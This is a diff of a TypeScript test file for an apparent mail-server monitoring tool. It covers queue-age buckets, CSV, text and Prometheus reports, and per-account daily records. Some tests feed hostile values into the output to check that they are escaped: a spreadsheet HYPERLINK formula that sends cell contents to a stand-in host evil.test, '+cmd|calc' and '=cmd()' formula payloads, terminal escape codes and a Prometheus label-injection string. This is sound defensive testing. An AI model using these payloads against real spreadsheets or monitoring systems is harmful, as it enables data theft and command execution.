@@ -36,9 +36,9 @@ describe('qshape buckets', () => {
   it('are qshape -s geometric buckets: [0,5) "5", [5,10) "10" … [640,1280) "1280", 1280 min and over "1280+"', () => {
     const m = (min: number) => min * 60;
     expect(AGE_LABELS).toEqual(['5', '10', '20', '40', '80', '160', '320', '640', '1280', '1280+']);
-    expect([0, 299, m(5), m(10) - 1, m(10), m(39.9), m(40), m(80), m(160), m(320), m(640), m(1280) - 1, m(1280), m(100_000), -5].map(bucketOf)).toEqual([
-      0, 0, 1, 1, 2, 3, 4, 5, 6, 7, 8, 8, 9, 9, 0,
-    ]);
+    expect(
+      [0, 299, m(5), m(10) - 1, m(10), m(39.9), m(40), m(80), m(160), m(320), m(640), m(1280) - 1, m(1280), m(100_000), -5].map(bucketOf),
+    ).toEqual([0, 0, 1, 1, 2, 3, 4, 5, 6, 7, 8, 8, 9, 9, 0]);
   });
 
   it('rows by sender domain (null sender, cut-short and address without a domain apart), unknown ages counted, TOTAL first', () => {
@@ -65,7 +65,9 @@ describe('qshape buckets', () => {
   });
 
   it('caps the rows per snapshot: the smallest domains are summed into "(other)"', () => {
-    const many = Array.from({ length: 30 }, (_, i) => Array.from({ length: 30 - i }, () => msg(`x@d${String(i).padStart(2, '0')}.test`, 1))).flat();
+    const many = Array.from({ length: 30 }, (_, i) =>
+      Array.from({ length: 30 - i }, () => msg(`x@d${String(i).padStart(2, '0')}.test`, 1)),
+    ).flat();
     const { rows } = queueShape(many, 10);
     expect(rows).toHaveLength(10);
     expect(rows[0]).toMatchObject({ domain: 'd00.test', total: 30 });
@@ -99,9 +101,23 @@ const digest: Digest = {
   generatedAt: '2026-11-24T07:00:00.000Z',
   runs: { count: 1, first: '2026-11-23T08:00:00.000Z', last: '2026-11-23T08:00:00.000Z' },
   buckets: AGE_LABELS,
-  problems: [{ severity: 'critical', kind: 'incident', subject: hostileAccount, hosts: ['mx1'], message: `account ${hostileAccount} flagged \x1b[2J\u202e` }],
+  problems: [
+    {
+      severity: 'critical',
+      kind: 'incident',
+      subject: hostileAccount,
+      hosts: ['mx1'],
+      message: `account ${hostileAccount} flagged \x1b[2J\u202e`,
+    },
+  ],
   accounts: [
-    account({ account: hostileAccount, senderDomains: [['+cmd|calc', 3], ['-2+3', 1]] }),
+    account({
+      account: hostileAccount,
+      senderDomains: [
+        ['+cmd|calc', 3],
+        ['-2+3', 1],
+      ],
+    }),
     account({ account: '@SUM(A1:A9)', senderDomains: [['a"b,c\nd', 1]] }),
     account({ account: ' =1+1' }),
     account({ account: '\t-1' }),
@@ -109,7 +125,11 @@ const digest: Digest = {
   ],
   hosts: [],
   qshape: {
-    fleet: { host: null, at: null, rows: withTotal([{ domain: '=cmd()', total: 1, buckets: [1, 0, 0, 0, 0, 0, 0, 0, 0, 0], unknownAge: 0 }]) },
+    fleet: {
+      host: null,
+      at: null,
+      rows: withTotal([{ domain: '=cmd()', total: 1, buckets: [1, 0, 0, 0, 0, 0, 0, 0, 0, 0], unknownAge: 0 }]),
+    },
     hosts: [],
   },
 };
@@ -120,7 +140,9 @@ describe('hostile text in the digest', () => {
     expect(csvText('plain.test')).toBe('"plain.test"');
     const lines = renderCsv(digest, 'accounts').split('\r\n');
     expect(lines).toHaveLength(7); // header, 5 rows, final empty
-    expect(lines[1]).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.test\/\?""&A1,""click""\)","mx1",10,20,2,false,0,1,10,5,3,-50,"'\+cmd\|calc:3 -2\+3:1",""$/);
+    expect(lines[1]).toMatch(
+      /^"'=HYPERLINK\(""http:\/\/evil\.test\/\?""&A1,""click""\)","mx1",10,20,2,false,0,1,10,5,3,-50,"'\+cmd\|calc:3 -2\+3:1",""$/,
+    );
     expect(lines[2]).toMatch(/^"'@SUM\(A1:A9\)",.*,"a""b,c\^Jd:1",""$/);
     expect(lines[3]!.startsWith(`"' =1+1",`)).toBe(true);
     expect(lines[4]!.startsWith(`"' -1",`)).toBe(true);
@@ -149,8 +171,15 @@ describe('hostile text in the digest', () => {
 
 describe('text digest size', () => {
   it('shows the 20 biggest queues per host (10 domains each) and says how many more', () => {
-    const shape = (n: number) => withTotal(Array.from({ length: 15 }, (_, k) => ({ domain: `d${k}.test`, total: n, buckets: [n, 0, 0, 0, 0, 0, 0, 0, 0, 0], unknownAge: 0 })));
-    const hosts = Array.from({ length: 26 }, (_, i) => ({ host: `mx${i}`, at: '2026-11-23T08:00:00.000Z', rows: shape(i === 25 ? 0 : 100 - i) }));
+    const shape = (n: number) =>
+      withTotal(
+        Array.from({ length: 15 }, (_, k) => ({ domain: `d${k}.test`, total: n, buckets: [n, 0, 0, 0, 0, 0, 0, 0, 0, 0], unknownAge: 0 })),
+      );
+    const hosts = Array.from({ length: 26 }, (_, i) => ({
+      host: `mx${i}`,
+      at: '2026-11-23T08:00:00.000Z',
+      rows: shape(i === 25 ? 0 : 100 - i),
+    }));
     const t = renderText({ ...digest, qshape: { fleet: digest.qshape.fleet, hosts } });
     expect(t.match(/^QUEUE SHAPE, mx\d+:/gm)).toHaveLength(20);
     expect(t).toContain('QUEUE SHAPE, mx19:');
@@ -180,7 +209,10 @@ describe('Prometheus textfile', () => {
     const lines = text.trimEnd().split('\n');
     const samples = lines.filter((l) => !l.startsWith('#'));
     for (const l of samples) expect(l).toMatch(/^[a-z_]+(\{[a-z_]+="(?:[^"\\]|\\.)*"(,[a-z_]+="(?:[^"\\]|\\.)*")*\})? -?[\d.]+$/);
-    expect(samples.filter((l) => l.startsWith('mailsweep_open_incidents'))).toEqual(['mailsweep_open_incidents{severity="critical"} 1', 'mailsweep_open_incidents{severity="warning"} 2']);
+    expect(samples.filter((l) => l.startsWith('mailsweep_open_incidents'))).toEqual([
+      'mailsweep_open_incidents{severity="critical"} 1',
+      'mailsweep_open_incidents{severity="warning"} 2',
+    ]);
     expect(samples).toContain('mailsweep_account_sends_today{account="evil\\"} 1^Jmailsweep_open_incidents{severity=\\"critical\\"} 0"} 5');
     expect(samples).toContain('mailsweep_queue_messages{host="mx1"} 12');
     expect(samples.some((l) => l.startsWith('mailsweep_queue_messages{host="mx2"'))).toBe(false);
@@ -227,7 +259,10 @@ describe('Prometheus textfile', () => {
     const dir = mkdtempSync(join(tmpdir(), 'ms-prom-'));
     writeFileSync(join(dir, 'inv.yaml'), 'all:\n  hosts:\n    mx1: {}\n');
     await expect(
-      runReport({ inventory: join(dir, 'inv.yaml'), state: join(dir, 's.sqlite'), prometheus: join(dir, 'nope', 'm.prom') }, { stdout: () => {}, stderr: () => {}, env: {} }),
+      runReport(
+        { inventory: join(dir, 'inv.yaml'), state: join(dir, 's.sqlite'), prometheus: join(dir, 'nope', 'm.prom') },
+        { stdout: () => {}, stderr: () => {}, env: {} },
+      ),
     ).rejects.toThrow(`--prometheus ${join(dir, 'nope', 'm.prom')}: directory ${join(dir, 'nope')} does not exist`);
     expect(readdirSync(dir)).toEqual(['inv.yaml']);
   });
@@ -235,15 +270,34 @@ describe('Prometheus textfile', () => {
 
 describe('store: one account-day merged across the day’s runs', () => {
   const day = (o: Partial<AccountDayRow>): AccountDayRow => ({
-    host: 'mx1', authId: 'bob', day: '2026-11-23', messages: 0, recipients: 0, failures: 0, clientIps: [], ipsTruncated: false, senderDomains: {}, ...o,
+    host: 'mx1',
+    authId: 'bob',
+    day: '2026-11-23',
+    messages: 0,
+    recipients: 0,
+    failures: 0,
+    clientIps: [],
+    ipsTruncated: false,
+    senderDomains: {},
+    ...o,
   });
   it('keeps the larger counts, joins IPs (capped) and domains', () => {
     const m = mergeDay(
       day({ messages: 10, recipients: 30, failures: 2, clientIps: ['1.1.1.1', '2.2.2.2'], senderDomains: { 'a.test': 10 } }),
       day({ messages: 8, recipients: 40, failures: 1, clientIps: ['2.2.2.2', '3.3.3.3'], senderDomains: { 'a.test': 8, 'b.test': 3 } }),
     );
-    expect(m).toMatchObject({ messages: 10, recipients: 40, failures: 2, clientIps: ['1.1.1.1', '2.2.2.2', '3.3.3.3'], ipsTruncated: false, senderDomains: { 'a.test': 10, 'b.test': 3 } });
-    const full = mergeDay(day({ clientIps: Array.from({ length: MAX_DAY_IPS }, (_, i) => `10.0.${i >> 8}.${i & 255}`) }), day({ clientIps: ['192.0.2.1'] }));
+    expect(m).toMatchObject({
+      messages: 10,
+      recipients: 40,
+      failures: 2,
+      clientIps: ['1.1.1.1', '2.2.2.2', '3.3.3.3'],
+      ipsTruncated: false,
+      senderDomains: { 'a.test': 10, 'b.test': 3 },
+    });
+    const full = mergeDay(
+      day({ clientIps: Array.from({ length: MAX_DAY_IPS }, (_, i) => `10.0.${i >> 8}.${i & 255}`) }),
+      day({ clientIps: ['192.0.2.1'] }),
+    );
     expect(full.clientIps).toHaveLength(MAX_DAY_IPS);
     expect(full.ipsTruncated).toBe(true);
   });
@@ -251,17 +305,52 @@ describe('store: one account-day merged across the day’s runs', () => {
 
 describe('what a run records per account and day', () => {
   const user = (authId: string, o: Partial<UserStats> = {}): UserStats => ({
-    authId, messages: 0, recipients: 0, unconfirmed: 0, clientIps: [], clientIpsTruncated: false, senderDomains: {}, nullSenders: 0,
-    firstSeen: null, lastSeen: null, sampleQueueIds: [], perDay: {}, failures: 0, ...o,
+    authId,
+    messages: 0,
+    recipients: 0,
+    unconfirmed: 0,
+    clientIps: [],
+    clientIpsTruncated: false,
+    senderDomains: {},
+    nullSenders: 0,
+    firstSeen: null,
+    lastSeen: null,
+    sampleQueueIds: [],
+    perDay: {},
+    failures: 0,
+    ...o,
   });
   it('one-day window: every figure; names that only failed to log in kept too, the 100 most tried', () => {
     const failuresByUser: Record<string, number> = { 'bob@x.test': 2, '(other)': 999 };
     for (let i = 0; i < 150; i++) failuresByUser[`spray${i}@x.test`] = i + 1;
     const rows = accountDayRows({
-      host: 'mx1', today: '2026-11-23', days: ['2026-11-23'], failuresByUser,
-      users: [user('bob@x.test', { messages: 5, recipients: 9, failures: 2, clientIps: ['192.0.2.1'], senderDomains: { 'spam.invalid': 5 }, perDay: { '2026-11-23': 5 } }), user('carol@x.test', { unconfirmed: 1 })],
+      host: 'mx1',
+      today: '2026-11-23',
+      days: ['2026-11-23'],
+      failuresByUser,
+      users: [
+        user('bob@x.test', {
+          messages: 5,
+          recipients: 9,
+          failures: 2,
+          clientIps: ['192.0.2.1'],
+          senderDomains: { 'spam.invalid': 5 },
+          perDay: { '2026-11-23': 5 },
+        }),
+        user('carol@x.test', { unconfirmed: 1 }),
+      ],
     });
-    expect(rows.find((r) => r.authId === 'bob@x.test')).toEqual({ host: 'mx1', authId: 'bob@x.test', day: '2026-11-23', messages: 5, recipients: 9, failures: 2, clientIps: ['192.0.2.1'], ipsTruncated: false, senderDomains: { 'spam.invalid': 5 } });
+    expect(rows.find((r) => r.authId === 'bob@x.test')).toEqual({
+      host: 'mx1',
+      authId: 'bob@x.test',
+      day: '2026-11-23',
+      messages: 5,
+      recipients: 9,
+      failures: 2,
+      clientIps: ['192.0.2.1'],
+      ipsTruncated: false,
+      senderDomains: { 'spam.invalid': 5 },
+    });
     expect(rows.find((r) => r.authId === 'carol@x.test')).toMatchObject({ messages: 0, day: '2026-11-23' });
     const sprayed = rows.filter((r) => r.authId.startsWith('spray'));
     expect(sprayed).toHaveLength(MAX_FAILED_ONLY);
@@ -270,10 +359,23 @@ describe('what a run records per account and day', () => {
   });
   it('a longer window (--since 2d): messages per day only', () => {
     const rows = accountDayRows({
-      host: 'mx1', today: '2026-11-23', days: ['2026-11-22', '2026-11-23'], failuresByUser: { 'x@x.test': 3 },
-      users: [user('bob@x.test', { messages: 7, recipients: 9, clientIps: ['192.0.2.1'], perDay: { '2026-11-22': 3, '2026-11-23': 4, '2026-11-01': 9 } })],
+      host: 'mx1',
+      today: '2026-11-23',
+      days: ['2026-11-22', '2026-11-23'],
+      failuresByUser: { 'x@x.test': 3 },
+      users: [
+        user('bob@x.test', {
+          messages: 7,
+          recipients: 9,
+          clientIps: ['192.0.2.1'],
+          perDay: { '2026-11-22': 3, '2026-11-23': 4, '2026-11-01': 9 },
+        }),
+      ],
     });
-    expect(rows.map((r) => [r.day, r.messages, r.recipients, r.clientIps.length])).toEqual([['2026-11-22', 3, 0, 0], ['2026-11-23', 4, 0, 0]]);
+    expect(rows.map((r) => [r.day, r.messages, r.recipients, r.clientIps.length])).toEqual([
+      ['2026-11-22', 3, 0, 0],
+      ['2026-11-23', 4, 0, 0],
+    ]);
   });
 });
 
